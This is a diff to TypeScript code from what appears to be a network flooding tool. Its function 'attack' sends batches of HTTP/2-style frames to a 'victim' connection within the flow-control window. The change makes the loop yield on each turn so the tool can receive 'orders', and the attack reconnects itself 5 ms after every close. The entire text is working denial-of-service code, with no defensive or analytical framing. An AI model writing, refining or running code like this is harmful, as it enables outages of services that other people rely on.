@@ -129,30 +129,29 @@ function attack(path: string, name: string): void {
   // The connection's window and the stream's, as far as they have been opened.
   let credit = 65_535;
   let isWaiting = false;
+  // A chunk a turn of the event loop: while the victim keeps up, orders would not be heard otherwise.
+  const later = (): void => void setImmediate(pump);
   const pump = (): void => {
     isWaiting = false;
-    while (!attacking.destroyed && !isStopped) {
-      const parts: Buffer[] = [];
-      for (let length = 0; length < CHUNK; id += 2) {
-        const part = more(id)!;
-        if (isData(part)) {
-          if (credit < part.length) break;
-          credit -= part.length;
-        }
-        parts.push(part);
-        length += part.length;
+    if (attacking.destroyed || isStopped) return;
+    const parts: Buffer[] = [];
+    for (let length = 0; length < CHUNK; id += 2) {
+      const part = more(id)!;
+      if (isData(part)) {
+        if (credit < part.length) break;
+        credit -= part.length;
       }
-      if (parts.length === 0) {
-        isWaiting = true;
-        return;
-      }
-      const chunk = Buffer.concat(parts);
-      sent += chunk.length;
-      if (!attacking.write(chunk)) {
-        attacking.once("drain", pump);
-        return;
-      }
+      parts.push(part);
+      length += part.length;
     }
+    if (parts.length === 0) {
+      isWaiting = true;
+      return;
+    }
+    const chunk = Buffer.concat(parts);
+    sent += chunk.length;
+    if (attacking.write(chunk)) later();
+    else attacking.once("drain", later);
   };
   attacking.on("error", () => {});
   attacking.on("close", () => setTimeout(() => attack(path, name), 5));
